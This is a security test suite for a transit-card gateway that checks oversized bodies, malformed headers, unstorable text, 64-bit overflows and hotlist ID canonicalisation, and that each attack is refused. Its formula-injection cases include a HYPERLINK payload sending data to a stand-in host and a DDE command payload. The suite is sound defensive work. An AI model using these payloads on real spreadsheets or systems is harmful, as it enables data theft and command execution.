"""Anyone on the network: huge bodies, odd headers, text and numbers the storage cannot hold,
formulas in listings, hotlist ids with trailing junk, and secrets left readable at rest.

Each attack runs against a real uvicorn gateway on SQLite and PostgreSQL; each refusal is
checked for its status, error code and reason, and the tables it would have written are
counted afterwards.
"""

from __future__ import annotations

import json
import os
import select
import socket
import sqlite3
import time
from pathlib import Path
from typing import Any

import httpx
import pytest

from gateway.auth import register_terminal
from gateway.hotlist import listed
from gateway.registry import SqliteCardRegistry
from gateway.storage import open_storage
from gateway.subsidy.catalogue import load_catalogue
from gateway.subsidy.publication import publication_csv
from gateway.subsidy.roster import RosterLine, RosterReport
from simulators.statefile import write_state
from terminal.cli.main import main as ykt
from terminal.crypto.keyset import save_keysets
from terminal.csv_cells import safe_cell
from terminal.private_files import write_private
from tests.gateway_fixtures import ADMIN_TOKEN, GatewayServer, demo_keysets
from tests.servers import ServerProcess, free_port
from tests.subsidy_kit import (
    ADMIN,
    Centre,
    admin,
    book_cards,
    id_number,
    roster,
)

MiB = 1024 * 1024
HUGE = 400 * MiB
TID = "310000000001"
KIOSK = "310000000090"
ISSUER = "0000000000000001"
SERIAL = "0123456789ABCDEF"


# -- helpers --------------------------------------------------------------------------------
def rss_kib(pid: int) -> tuple[int, int]:
    """(VmRSS, VmHWM) of a process in KiB: its resident memory now and at its peak."""
    fields = dict(
        line.split(":", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines()
    )
    return int(fields["VmRSS"].split()[0]), int(fields["VmHWM"].split()[0])


def stream_body(
    port: int,
    path: str,
    headers: dict[str, str],
    total: int,
    *,
    chunked: bool = True,
    chunk: int = MiB,
) -> tuple[int, dict[str, Any], int]:
    """POST up to ``total`` body bytes, stopping as soon as the server answers.

    Returns (status, JSON answer, body bytes the server let us send). With ``chunked``
    False the request declares Content-Length ``total`` and streams the same way.
    """
    lines = [f"POST {path} HTTP/1.1", "Host: 127.0.0.1", "Content-Type: application/json"]
    lines.append("Transfer-Encoding: chunked" if chunked else f"Content-Length: {total}")
    lines += [f"{k}: {v}" for k, v in headers.items()]
    head = ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")
    payload = b"7" * chunk
    frame = (b"%x\r\n" % chunk + payload + b"\r\n") if chunked else payload
    sock = socket.create_connection(("127.0.0.1", port))
    sock.sendall(head)
    sock.setblocking(False)
    sent, pending, answer = 0, b"", b""
    deadline = time.monotonic() + 300
    try:
        while time.monotonic() < deadline:
            writing = sent < total or bool(pending)
            readable, writable, _ = select.select([sock], [sock] if writing else [], [], 30)
            if readable:
                try:
                    data = sock.recv(1 << 16)
                except ConnectionResetError:
                    break
                if not data:
                    break
                answer += data
                if _complete(answer):
                    break
                continue
            if writable:
                if not pending:
                    pending = frame
                    sent += chunk
                    if sent >= total and chunked:
                        pending += b"0\r\n\r\n"
                try:
                    pending = pending[sock.send(pending) :]
                except (BrokenPipeError, ConnectionResetError):
                    writing = False
    finally:
        sock.close()
    head_part, _, body = answer.partition(b"\r\n\r\n")
    status = int(head_part.split(b" ", 2)[1])
    return status, json.loads(body), sent


def _complete(answer: bytes) -> bool:
    head, sep, body = answer.partition(b"\r\n\r\n")
    if not sep:
        return False
    for line in head.split(b"\r\n")[1:]:
        name, _, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            return len(body) >= int(value)
    return False


def count(db_url: str, table: str) -> int:
    db = open_storage(db_url)
    try:
        with db.tx() as cur:
            cur.execute(f"SELECT COUNT(*) FROM {table}")
            return int(cur.fetchone()[0])
    finally:
        db.close()


def raw_json(doc: Any) -> bytes:
    """JSON as an attacker writes it: ``\\ud800`` escapes pass through as lone surrogates."""
    return json.dumps(doc, ensure_ascii=True).encode("ascii")


def refused(r: httpx.Response, status: int, code: str, *words: str) -> None:
    assert r.status_code == status, r.text
    doc = r.json()
    assert doc["error"] == code, doc
    for word in words:
        assert word in doc["reason"], doc


# -- 1. bodies: authenticated from headers, bounded before they are read ---------------------
@pytest.fixture
def served(db_url: str, tmp_path: Path):  # type: ignore[no-untyped-def]
    """``ykt gateway serve`` in its own process, admin token from a file, one kiosk."""
    db = open_storage(db_url)
    token = register_terminal(db, KIOSK, "centre", role="kiosk")
    db.close()
    token_file = tmp_path / "admin.token"
    write_private(token_file, ADMIN_TOKEN + "\n")
    port = free_port()
    args = ["gateway", "serve", "--db", db_url, "--port", str(port), "--demo-keys"]
    server = ServerProcess(
        [*args, "--admin-token-file", str(token_file)], port, tmp_path / "gw.log"
    ).start()
    yield server, port, token
    server.stop()


def test_a_400_mib_body_is_refused_before_it_is_read(served, db_url):
    server, port, token = served
    pid = server.proc.pid
    rss_before, hwm_before = rss_kib(pid)
    bearer = {"Authorization": "Bearer ykt_not-a-real-token"}

    status, doc, sent = stream_body(port, "/v1/batches", bearer, HUGE)
    assert (status, doc["error"]) == (401, "unauthenticated"), doc
    assert sent < 64 * MiB  # the server answered long before the body ended

    good = {"Authorization": f"Bearer {token}"}
    status, doc, sent = stream_body(port, "/v1/batches", good, HUGE)
    assert (status, doc["error"]) == (413, "too_large"), doc
    assert "at most 2097152 bytes" in doc["reason"]
    assert sent < 64 * MiB

    # a declared length over the limit is refused without reading a byte of it
    status, doc, _ = stream_body(port, "/v1/batches", good, HUGE, chunked=False)
    assert (status, doc["error"]) == (413, "too_large"), doc

    # pydantic-bodied routes (FastAPI parses the JSON itself) are bounded the same way
    status, doc, sent = stream_body(port, "/v1/loads", good, HUGE)
    assert (status, doc["error"]) == (413, "too_large"), doc
    assert "at most 65536 bytes" in doc["reason"]

    # rosters: the admin token is checked first, then 10 MiB at most
    status, doc, _ = stream_body(port, "/v1/admin/subsidies/rosters", {"X-Admin-Token": "x"}, HUGE)
    assert (status, doc["error"]) == (401, "unauthenticated"), doc
    status, doc, _ = stream_body(
        port, "/v1/admin/subsidies/rosters?declared_by=a", {"X-Admin-Token": ADMIN_TOKEN}, HUGE
    )
    assert (status, doc["error"]) == (413, "too_large"), doc

    rss_after, hwm_after = rss_kib(pid)
    assert rss_after - rss_before < 50 * 1024, (rss_before, rss_after)
    assert hwm_after - max(hwm_before, rss_before) < 50 * 1024, (hwm_before, hwm_after)
    assert httpx.get(server.url + "/health").status_code == 200
    assert [count(db_url, t) for t in ("txn", "batches", "loads", "subsidy_rosters")] == [0] * 4


def test_the_gateway_serves_no_benchmark_noop(gateway):
    token = gateway.register(TID)
    r = httpx.post(
        gateway.url + "/v1/noop", json={"records": []}, headers={"Authorization": f"Bearer {token}"}
    )
    assert r.status_code == 404


def test_small_routes_take_small_bodies(gateway):
    kiosk = gateway.register(KIOSK, role="kiosk")
    padding = "x" * 100_000
    r = httpx.post(
        gateway.url + "/v1/admin/hotlist",
        json={"action": "add", "issuer_id": ISSUER, "card_serial": SERIAL, "reason": padding},
        headers=ADMIN,
    )
    refused(r, 413, "too_large", "65536 bytes")
    r = httpx.post(
        gateway.url + "/v1/loads",
        json={"purpose": padding},
        headers={"Authorization": f"Bearer {kiosk}"},
    )
    refused(r, 413, "too_large")
    r = httpx.post(gateway.url + "/v1/loads", json={"purpose": padding})
    refused(r, 401, "unauthenticated")
    assert (gateway.count("hotlist_changes"), gateway.count("loads")) == (0, 0)


# -- 2. headers -------------------------------------------------------------------------------
@pytest.mark.parametrize("token", ["tökén".encode(), "tökén".encode("latin-1"), b"\xff"])
def test_a_non_ascii_admin_token_is_refused_not_a_crash(gateway, token):
    r = httpx.post(
        gateway.url + "/v1/admin/hotlist",
        json={"action": "add", "issuer_id": ISSUER, "card_serial": SERIAL},
        headers={"X-Admin-Token": token},
    )
    refused(r, 401, "unauthenticated", "admin token")
    r = httpx.get(gateway.url + "/v1/admin/subsidies/rosters", headers={"X-Admin-Token": token})
    refused(r, 401, "unauthenticated")
    assert gateway.count("hotlist_changes") == 0


# -- 3. text the storage cannot hold ---------------------------------------------------------
@pytest.mark.parametrize("bad", ["\ud800", "a\udfffb", "nul\x00byte"])
def test_unstorable_text_is_refused_with_a_reason(gateway, bad):
    r = httpx.post(
        gateway.url + "/v1/admin/hotlist",
        content=raw_json(
            {"action": "add", "issuer_id": ISSUER, "card_serial": SERIAL, "reason": bad}
        ),
        headers={**ADMIN, "Content-Type": "application/json"},
    )
    refused(r, 422, "invalid_request", "reason")
    r = httpx.post(
        gateway.url + "/v1/admin/terminals",
        content=raw_json({"terminal_id": TID, "operator_id": "bus-co", "name": bad}),
        headers={**ADMIN, "Content-Type": "application/json"},
    )
    refused(r, 422, "invalid_request", "name")
    assert (gateway.count("hotlist_changes"), gateway.count("terminals")) == (0, 0)


def test_unstorable_text_in_a_query_or_path_is_refused(gateway):
    r = httpx.post(
        gateway.url + "/v1/admin/subsidies/rosters",
        params={"declared_by": "nul\x00"},
        content=roster(),
        headers=ADMIN,
    )
    refused(r, 422, "invalid_request", "declared_by")
    kiosk = gateway.register(KIOSK, role="kiosk")
    r = httpx.get(gateway.url + "/v1/loads/ref%00x", headers={"Authorization": f"Bearer {kiosk}"})
    refused(r, 422, "invalid_request")
    r = httpx.get(
        gateway.url + "/v1/loads",
        params={"state": "a\x00"},
        headers={"Authorization": f"Bearer {kiosk}"},
    )
    refused(r, 422, "invalid_request", "state")
    assert gateway.count("subsidy_rosters") == 0


@pytest.fixture
def journaled(tmp_path: Path, clock):  # type: ignore[no-untyped-def]
    from tests.traffic import JournaledTerminal, make_cards

    t = JournaledTerminal(TID, tmp_path / "journal.db", clock)
    cards = make_cards(2)
    for i in range(4):
        clock.advance(seconds=30)
        t.tap(cards[i % 2], 100 + i)
    yield t
    t.close()


@pytest.mark.parametrize(
    ("field", "value", "code"),
    [
        ("resolution", "torn\x00", "invalid_record"),
        ("resolution", "\ud800", "invalid_record"),
        ("context", {"note": "\udc00"}, "invalid_record"),
    ],
)
def test_a_batch_with_unstorable_text_is_refused_whole(gateway, journaled, field, value, code):
    token = gateway.register(TID)
    records = [row.upload_record() for row in journaled.journal.export()]
    records[2][field] = value
    r = httpx.post(
        gateway.url + "/v1/batches",
        content=raw_json({"batch_id": "b1", "terminal_id": TID, "records": records}),
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )
    assert r.status_code == 422, r.text
    assert r.json()["error"] == code
    assert f"record 2 (terminal_seq {records[2]['terminal_seq']}): {field}" in r.json()["reason"]
    assert (gateway.count("txn"), gateway.count("batches"), gateway.count("outbox")) == (0, 0, 0)


# -- 4. numbers past 64 bits -----------------------------------------------------------------
@pytest.mark.parametrize("since", [2**63, 2**64 + 5, 10**30])
def test_a_hotlist_version_past_64_bits_is_refused(gateway, since):
    token = gateway.register(TID)
    r = httpx.get(
        gateway.url + "/v1/hotlist",
        params={"since": str(since)},
        headers={"Authorization": f"Bearer {token}"},
    )
    refused(r, 422, "invalid_request", "since")


def test_the_largest_64_bit_version_is_answered(gateway):
    token = gateway.register(TID)
    r = httpx.get(
        gateway.url + "/v1/hotlist",
        params={"since": str(2**63 - 1)},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert r.status_code == 200 and r.json()["changes"] == []


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("GET", f"/v1/admin/subsidies/rosters/{2**64}", None),
        ("POST", f"/v1/admin/subsidies/rosters/{2**63}/review", {"actor": "x"}),
        ("GET", f"/v1/admin/subsidies/rosters/{2**70}/publication", None),
        ("GET", f"/v1/admin/subsidies/report?roster_id={2**64}", None),
    ],
)
def test_a_roster_id_past_64_bits_is_refused(gateway, method, path, body):
    r = admin(gateway, method, path, **({"json": body} if body else {}))
    refused(r, 422, "invalid_request", "roster_id")
    assert gateway.count("subsidy_events") == 0


def test_pickup_line_ids_past_64_bits_are_refused(gateway):
    kiosk = gateway.register(KIOSK, role="kiosk")
    load = {
        "issuer_id": ISSUER,
        "card_serial": SERIAL,
        "terminal_id": KIOSK,
        "amount": 100,
        "balance_before": 0,
        "online_atc": 1,
        "key_version": 1,
        "algorithm": 0,
        "card_random": "00000000",
        "mac1": "00000000",
        "when": "2026-10-01T10:00:00",
    }
    r = httpx.post(
        gateway.url + "/v1/subsidies/pickups",
        json={"load": load, "lines": [1, 2**64], "holder": "123456"},
        headers={"Authorization": f"Bearer {kiosk}"},
    )
    refused(r, 422, "invalid_request", "lines")
    r = httpx.post(
        gateway.url + "/v1/loads",
        json={**load, "amount": 2**63},
        headers={"Authorization": f"Bearer {kiosk}"},
    )
    refused(r, 422, "invalid_request", "amount")
    assert (gateway.count("loads"), gateway.count("subsidy_lines")) == (0, 0)


# -- 5. hotlist ids: one card, one entry -----------------------------------------------------
def hotlist(gw: GatewayServer, action: str, issuer: str, serial: str) -> httpx.Response:
    return httpx.post(
        gw.url + "/v1/admin/hotlist",
        json={"action": action, "issuer_id": issuer, "card_serial": serial},
        headers=ADMIN,
    )


def test_a_serial_with_a_trailing_newline_is_the_same_card(gateway):
    r = hotlist(gateway, "add", ISSUER, SERIAL + "\n")
    assert r.status_code == 200 and r.json()["changed"] is True
    assert listed(gateway.db) == {(ISSUER, SERIAL)}
    r = hotlist(gateway, "add", " " + ISSUER.lower(), SERIAL.lower())
    assert r.json()["changed"] is False  # already listed: the same entry
    r = hotlist(gateway, "remove", ISSUER, SERIAL.lower() + "\r\n")
    assert r.json()["changed"] is True
    assert listed(gateway.db) == set()
    assert gateway.count("hotlist") == 1 and gateway.count("hotlist_changes") == 2


@pytest.mark.parametrize(
    "serial", [SERIAL + "0", SERIAL[:-1], SERIAL[:-1] + "G", SERIAL[:8] + "\n" + SERIAL[8:], ""]
)
def test_a_serial_that_is_not_16_hex_digits_is_refused(gateway, serial):
    r = hotlist(gateway, "add", ISSUER, serial)
    refused(r, 422, "bad_card", "card_serial must be exactly 16 hex digits")
    assert (gateway.count("hotlist"), gateway.count("hotlist_changes")) == (0, 0)


def test_the_hotlist_cli_canonicalises_too(db_url, capsys):
    assert ykt(["gateway", "hotlist", "add", "--db", db_url, ISSUER, SERIAL.lower() + "\n"]) == 0
    assert ykt(["gateway", "hotlist", "remove", "--db", db_url, ISSUER + " ", SERIAL]) == 0
    out = capsys.readouterr().out
    assert "hotlist version 1" in out and "hotlist version 2" in out
    assert ykt(["gateway", "hotlist", "add", "--db", db_url, ISSUER, SERIAL + "00"]) == 1
    assert "card_serial must be exactly 16 hex digits" in capsys.readouterr().err
    assert count(db_url, "hotlist_changes") == 2 and count(db_url, "hotlist") == 1


# -- 6. formulas in listings -----------------------------------------------------------------
@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+2", "'=1+2"),
        ("+86", "'+86"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("张三", "张三"),
        (120, 120),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_neutralised(cell, shown):
    assert safe_cell(cell) == shown


def test_a_roster_with_formula_cells_is_refused_and_listings_carry_none(gateway, clock):
    centre = Centre(gateway, clock)
    try:
        people = [('=HYPERLINK("http://evil.example/?"&A1)', id_number(7)), ("@cmd", id_number(8))]
        records = centre.issue(people)
        lines = [
            f'"{r.holder.name.replace(chr(34), chr(34) * 2)}",{r.holder.id_number},'
            f"{r.card_number},H18,100,2026-10"
            for r in records
        ]
        r = admin(
            gateway,
            "POST",
            "/v1/admin/subsidies/rosters",
            params={"declared_by": "x"},
            content=roster(*lines),
        )
    finally:
        centre.close()
    assert r.status_code == 422 and r.json()["error"] == "bad_roster", r.text
    assert r.json()["reason"].startswith("line 2: cell '=HYPERLINK")
    assert "would run as a spreadsheet formula" in r.json()["reason"]
    assert gateway.count("subsidy_rosters") == 0 and gateway.count("subsidy_lines") == 0
    # a listing written from stored names neutralises them all the same
    bad = RosterLine(
        2, "=cmd|' /C calc'!A0", id_number(7), "3" * 19, load_catalogue().items["H18"], 1, "2026-10"
    )
    text = publication_csv(RosterReport([bad]))
    assert not any(
        cell.startswith(("=", "+", "-", "@")) for cell in text.replace("\n", ",").split(",")
    )


# -- 7. secrets at rest ----------------------------------------------------------------------
def mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


def test_files_with_keys_names_and_pins_are_owner_only(tmp_path):
    old = os.umask(0o022)
    try:
        db = open_storage(f"sqlite:///{tmp_path / 'gateway.db'}")
        register_terminal(db, TID, "bus-co")
        db.close()
        registry = SqliteCardRegistry(tmp_path / "desk.db")
        registry.close()
        write_state(tmp_path / "card.json", {"kind": "card", "pin": "123456"})
        save_keysets(tmp_path / "keys.json", demo_keysets())
        (tmp_path / "loose.db").write_bytes(b"")
        (tmp_path / "loose.db").chmod(0o644)
        open_storage(f"sqlite:///{tmp_path / 'loose.db'}").close()
    finally:
        os.umask(old)
    for name in ("gateway.db", "desk.db", "card.json", "keys.json", "loose.db"):
        assert mode(tmp_path / name) == 0o600, name
    wal = [p for p in tmp_path.iterdir() if p.name.endswith(("-wal", "-shm"))]
    assert all(mode(p) == 0o600 for p in wal), [(p.name, oct(mode(p))) for p in wal]
    assert sqlite3.connect(tmp_path / "gateway.db").execute("SELECT COUNT(*) FROM terminals")


def test_the_admin_token_is_never_taken_from_the_command_line(capsys, monkeypatch):
    monkeypatch.delenv("YKT_ADMIN_TOKEN", raising=False)
    with socket.socket() as taken, pytest.raises(SystemExit) as exc:
        taken.bind(("127.0.0.1", 0))  # if the token were taken, serving would fail at once
        port = str(taken.getsockname()[1])
        ykt(["gateway", "serve", "--admin-token", "s3cret", "--port", port])
    assert "--admin-token-file" in str(exc.value) and "s3cret" not in str(exc.value)


def test_a_terminal_token_on_the_command_line_warns(tmp_path, capsys, monkeypatch):
    from terminal.cli.common import resolve_token
    from terminal.cli.main import build_parser

    monkeypatch.setenv("YKT_KIOSK_TOKEN", "from-env")
    parser = build_parser()
    args = parser.parse_args(["kiosk", "balance"])
    resolve_token(args)
    assert args.token == "from-env"
    write_private(tmp_path / "kiosk.token", "from-file\n")
    args = parser.parse_args(["kiosk", "balance", "--token-file", str(tmp_path / "kiosk.token")])
    resolve_token(args)
    assert args.token == "from-file"
    args = parser.parse_args(["kiosk", "balance", "--token", "from-argv"])
    resolve_token(args)
    assert args.token == "from-argv"
    assert "visible to other users" in capsys.readouterr().err


@pytest.mark.parametrize("bad", ["nul\x00", "\udc80"])
def test_issuance_records_and_loss_reports_with_unstorable_text_are_refused(gateway, clock, bad):
    desk = gateway.register("310000000080", role="issuance")
    kiosk = gateway.register(KIOSK, role="kiosk")
    registry = SqliteCardRegistry(clock=clock, first_sequence=501)
    book_cards(registry, [("张三", id_number(5))])
    records = registry.export()
    registry.close()
    records[0]["holder"]["name"] = "张" + bad
    r = httpx.post(
        gateway.url + "/v1/issuance/records",
        content=raw_json({"records": records}),
        headers={"Authorization": f"Bearer {desk}", "Content-Type": "application/json"},
    )
    refused(r, 422, "invalid_request", "records")
    r = httpx.post(
        gateway.url + "/v1/cards/loss",
        content=raw_json({"card_number": "3100000000000000001", "id_number": bad}),
        headers={"Authorization": f"Bearer {kiosk}", "Content-Type": "application/json"},
    )
    refused(r, 422, "invalid_request", "id_number")
    assert (gateway.count("cards"), gateway.count("card_revisions")) == (0, 0)
    assert gateway.count("hotlist_changes") == 0


def test_ids_with_a_trailing_newline_are_refused_not_stored(gateway, journaled):
    """``^…$`` lets a trailing newline through; every id pattern ends at the string's end,
    so a batch id or an issuance record with one is refused and nothing is stored."""
    token = gateway.register(TID)
    records = [row.upload_record() for row in journaled.journal.export()]
    r = httpx.post(
        gateway.url + "/v1/batches",
        content=raw_json({"batch_id": "b1\n", "terminal_id": TID, "records": records}),
        headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )
    refused(r, 400, "bad_layout", "batch_id")
    assert (gateway.count("txn"), gateway.count("batches")) == (0, 0)
    desk = gateway.register("310000000080", role="issuance")
    registry = SqliteCardRegistry(first_sequence=601)
    book_cards(registry, [("张三", id_number(6))])
    card = registry.export()
    registry.close()
    card[0]["issuer_id"] += "\n"
    r = httpx.post(
        gateway.url + "/v1/issuance/records",
        content=raw_json({"records": card}),
        headers={"Authorization": f"Bearer {desk}", "Content-Type": "application/json"},
    )
    assert r.status_code == 422 and "issuer_id" in r.json()["reason"], r.text
    assert (gateway.count("cards"), gateway.count("card_revisions")) == (0, 0)


def test_a_roster_with_a_nul_byte_is_refused_on_every_store(gateway):
    body = b"name,id_number,card_number,item,amount_fen,period\n\xe5\xbc\xa0\x00,1,2,H18,1,2026\n"
    r = httpx.post(
        gateway.url + "/v1/admin/subsidies/rosters",
        params={"declared_by": "declarer"},
        content=body,
        headers={"X-Admin-Token": ADMIN_TOKEN},
    )
    refused(r, 422, "bad_roster", "line 2: a NUL byte")
    assert (gateway.count("subsidy_rosters"), gateway.count("subsidy_lines")) == (0, 0)
